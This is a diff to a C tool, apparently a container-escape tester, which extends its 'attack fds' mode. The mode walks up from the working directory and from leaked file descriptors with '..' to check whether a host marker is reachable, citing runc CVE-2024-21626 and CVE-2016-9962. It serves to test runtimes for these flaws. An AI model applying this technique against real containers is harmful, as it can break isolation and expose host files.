@@ -24,10 +24,10 @@
  *       WHAT" line each.  (CVE-2016-9962, CVE-2024-21626)
  *
  *   attack fds MARKER
- *       In a container: every fd this process has (and every fd of pid 1
- *       it may read), each dir walked up with ".." looking for MARKER;
- *       prints "fd N TARGET" for each and "breach fd N" when MARKER is
- *       reachable.  (CVE-2024-21626)
+ *       In a container: the cwd and every fd this process has (and every
+ *       fd of pid 1 it may read), each dir walked up with ".." looking for
+ *       MARKER; prints "cwd PATH", "fd N TARGET" for each and "breach ..."
+ *       when MARKER is reachable.  (CVE-2024-21626)
  */
 #include <dirent.h>
 #include <errno.h>
@@ -146,6 +146,8 @@ static int exe_attack(double secs)
 /* Walk up from dir (consumed) and look for marker. */
 static int reaches_marker(int dir, const char *marker)
 {
+    if (dir < 0)
+        return 0;
     for (int i = 0; i < 64; i++) {
         int up = openat(dir, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
         if (up < 0)
@@ -286,6 +288,12 @@ int main(int argc, char **argv)
     if (argc == 5 && strcmp(argv[1], "peek") == 0)
         return peek(atof(argv[2]), argv[3], argv[4]);
     if (argc == 3 && strcmp(argv[1], "fds") == 0) {
+        char cwd[PATH_MAX];
+        printf("cwd %s\n", getcwd(cwd, sizeof cwd) ? cwd : "?");
+        if (reaches_marker(open(".", O_PATH | O_DIRECTORY | O_CLOEXEC), argv[2])) {
+            printf("breach cwd\n");
+            breaches++;
+        }
         fds_of("/proc/self/fd", argv[2]);
         fds_of("/proc/1/fd", argv[2]);
         return breaches ? 1 : 0;
